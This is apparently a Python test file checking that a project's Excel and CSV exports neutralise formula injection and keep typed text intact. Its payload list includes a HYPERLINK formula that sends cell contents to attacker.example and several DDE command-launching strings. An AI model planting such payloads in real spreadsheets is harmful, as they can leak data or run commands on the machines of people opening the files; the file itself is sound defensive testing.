"""Formula injection in exports: whatever text a person typed, no cell of an Excel or CSV export runs as a
formula when the file is opened in a spreadsheet, and the text itself is kept (CSV files congvu reads back
come back exactly as written)."""

import csv
import datetime as dt
import io

from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from congvu.api.opendata import csv_bytes
from congvu.core.excel import FORMULA_TRIGGERS, inert_text, restored_text, workbook_bytes

PAYLOADS = [
    '=HYPERLINK("http://attacker.example/?x="&A1,"Bấm vào đây")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "'=1+1", "''=1+1", "- Biên bản bàn giao", "Bình thường", "",
]
# Text that starts like a formula, and anything at all.
formula_like = st.builds(lambda t, rest: t + rest, st.sampled_from(FORMULA_TRIGGERS + ("'=", "''+")), st.text(max_size=30))
any_text = st.one_of(formula_like, st.text(max_size=40))


def _starts_formula(text: str) -> bool:
    return text.startswith(FORMULA_TRIGGERS)


@given(st.lists(any_text, min_size=1, max_size=8))
@settings(max_examples=40, deadline=None)
def test_excel_cells_are_text_never_formulas(values):
    sheet = load_workbook(io.BytesIO(workbook_bytes("T", [("A", 10)], [[v] for v in values]))).active
    for value, (cell,) in zip(values, sheet.iter_rows(min_row=2)):
        kept = ILLEGAL_CHARACTERS_RE.sub("", value)
        if not kept:
            continue
        assert cell.data_type == "s", value
        assert cell.value == kept
        assert bool(cell.quotePrefix) == _starts_formula(kept)


def test_known_payloads_in_excel():
    sheet = load_workbook(io.BytesIO(workbook_bytes("T", [("A", 10)], [[v] for v in PAYLOADS]))).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert all(c.data_type == "s" for c in cells if c.value is not None)
    assert [c.value for c in cells[:-1]] == [ILLEGAL_CHARACTERS_RE.sub("", p) for p in PAYLOADS[:-1]]


@given(any_text)
@settings(max_examples=200, deadline=None)
def test_csv_text_is_inert_and_reversible(text):
    out = inert_text(text)
    assert not _starts_formula(out)
    assert restored_text(out) == text


def test_open_data_csv_cells_are_inert():
    body = csv_bytes(["Tên"], [[p] for p in PAYLOADS]).decode("utf-8-sig")
    cells = [row[0] for row in csv.reader(io.StringIO(body))][1:]
    assert len(cells) == len(PAYLOADS)
    assert not [c for c in cells if _starts_formula(c)]
    assert cells[0] == "'" + PAYLOADS[0]


def test_catalogue_exchange_csv_is_inert_and_round_trips():
    from congvu.catalog import exchange_format, portal_format
    from tests.catalog.conftest import STARTER

    records = [r.replace(number=1, effective_from=dt.date(2025, 7, 1)) for r in portal_format.loads(STARTER.read_bytes())[:2]]
    evil = [records[0].replace(name='=HYPERLINK("http://x","x")', agency="-1+1", time_limit_raw="'=x"), records[1]]
    text = exchange_format.dump_csv(evil)
    for row in csv.DictReader(io.StringIO(text)):
        assert not [v for v in row.values() if _starts_formula(v)], row
    assert exchange_format.loads_csv(text) == evil
